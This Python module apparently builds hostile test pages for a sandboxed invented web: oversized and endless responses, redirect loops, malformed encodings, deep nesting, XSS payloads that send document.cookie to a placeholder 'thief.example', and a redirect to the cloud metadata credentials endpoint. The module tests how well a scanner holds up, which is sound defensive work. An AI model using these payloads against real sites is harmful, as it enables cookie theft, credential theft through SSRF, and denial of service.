"""Hostile pages for the invented web: endless, malformed, or full of scripts."""

import asyncio
import random
from collections.abc import AsyncIterator
from dataclasses import dataclass
from functools import cache, partial
from typing import Literal

from exposurekit.sandbox.world.asgi import Request, Response, html, redirect
from exposurekit.sandbox.world.formats import phone_as
from exposurekit.sandbox.world.pages import PageTruth
from exposurekit.sandbox.world.people import Person, invent, slug
from exposurekit.sandbox.world.world import World
from exposurekit.service.clock import Clock

Kind = Literal["huge", "drip", "redirects", "garbled", "scripted", "nested", "metadata"]
KINDS: tuple[Kind, ...] = ("huge", "drip", "redirects", "garbled", "scripted", "nested", "metadata")
HOST = "tarpit.example"
PAGES_PER_KIND = 2  # few, so that a scan does not spend its time on them
HUGE_PARTS, PART = 800, b"<p>marsh marsh marsh marsh</p>\n" * 2114  # 800 parts of 64 kB: 50 MB
DRIP_S = 0.2
DEPTH = 200_000
PAYLOAD = "<script>fetch('http://thief.example/?'+document.cookie)</script>"


@dataclass(frozen=True, repr=False)
class HostilePage:
    """A hostile page that the search engine lists for a person."""

    kind: Kind
    index: int
    person: Person

    @property
    def name(self) -> str:
        return f"{self.person.first_name} {self.person.last_name}"

    @property
    def path(self) -> str:
        return f"/{self.kind}/{slug(self.name)}-{self.index}"

    @property
    def url(self) -> str:
        return f"http://{HOST}{self.path}"

    @property
    def title(self) -> str:
        return f"{PAYLOAD}{self.name}" if self.kind == "scripted" else f"All about {self.name}"

    def truth(self) -> PageTruth:
        """Return which of the person's data it contains."""
        kinds = {"scripted": ("email", self.person.emails), "garbled": ("phone", self.person.phone_numbers)}
        kind, values = kinds.get(self.kind, ("", ()))
        return PageTruth(self.url, self.index, (kind,) if values else ())

    def respond(self, path: str) -> Response | None:
        """Answer a request for the page, or for one that it redirects to."""
        if path != self.path and not path.startswith(f"{self.path}/"):
            return None
        match self.kind:
            case "huge":
                response = Response(parts=partial(_huge, self.name))
            case "drip":
                response = Response(parts=partial(_drip, self.name))
            case "redirects":
                response = redirect(f"{self.path}/{_redirect_number(path) + 1}")
            case "garbled":
                response = Response(self._garbled(), kind="text/html; charset=x-no-such-code")
            case "scripted":
                response = html(self._scripted())
            case "nested":
                response = Response(_nested() + self.name.encode())
            case "metadata":
                response = redirect("http://169.254.169.254/latest/meta-data/iam/security-credentials/")
        return response

    def _garbled(self) -> bytes:
        phones = " ".join(phone_as(number, 0) for number in self.person.phone_numbers)
        parts = (b"\xff\xfe\x80<html><body>\xc3\x28", self.name.encode(), b"\xf0\x9f tel.", phones.encode())
        return b" ".join(parts) + b"\x00\x81"

    def _scripted(self) -> str:
        return (
            f"<title>{PAYLOAD}{self.name}</title><body onload=\"alert('1')\">{PAYLOAD}"
            f'<img src="http://thief.example/x" onerror="alert(2)"><iframe src="javascript:alert(3)"></iframe>'
            f"<p>{self.name} {' '.join(self.person.emails)}</p><svg/onload=alert(4)>"
            f'<a href="javascript:alert(5)">more</a><meta http-equiv="refresh" content="0;url=http://thief.example/">'
        )


class HostileWorld(World):
    """An invented web that has hostile pages, too; its search engine lists them."""

    def __init__(self, people: int, *, seed: int, clock: Clock) -> None:
        super().__init__(people, seed=seed, clock=clock)
        self._hostile = _hostile_pages(people, seed)
        for page in self._hostile:
            self._engine.add(page.name, page.url, page.title, f"Everything on {page.name}.")

    def pages(self) -> list[PageTruth]:
        return super().pages() + [page.truth() for page in self._hostile]

    def respond(self, request: Request) -> Response:
        if request.host != HOST:
            return super().respond(request)
        self.requests[HOST] += 1
        responses = filter(None, (page.respond(request.path) for page in self._hostile))
        return next(responses, html("<p>There is no such page.</p>", 404))


def is_hostile(url: str) -> bool:
    """Whether a page of a world is one of these."""
    return url.startswith(f"http://{HOST}/")


def _hostile_pages(people: int, seed: int) -> list[HostilePage]:
    """A few hostile pages of each kind for a world of so many people, each for another person."""
    people = invent(people, seed)
    rng = random.Random(f"hostile {seed}")  # noqa: S311  invented data, not a secret
    chosen = rng.sample(range(len(people)), min(len(people), PAGES_PER_KIND * len(KINDS)))
    return [HostilePage(KINDS[at % len(KINDS)], index, people[index]) for at, index in enumerate(chosen)]


def _redirect_number(path: str) -> int:
    last = path.rpartition("/")[2]
    return int(last) if last.isascii() and last.isdigit() and len(last) < 9 else 0


@cache
def _nested() -> bytes:
    return b"<html><body>" + b"<div>" * DEPTH


async def _huge(name: str) -> AsyncIterator[bytes]:
    yield f"<html><body><h1>{name}</h1>".encode()
    for _ in range(HUGE_PARTS):
        yield PART


async def _drip(name: str) -> AsyncIterator[bytes]:
    yield f"<html><body><h1>{name}</h1>".encode()
    while True:
        await asyncio.sleep(DRIP_S)
        yield b"."
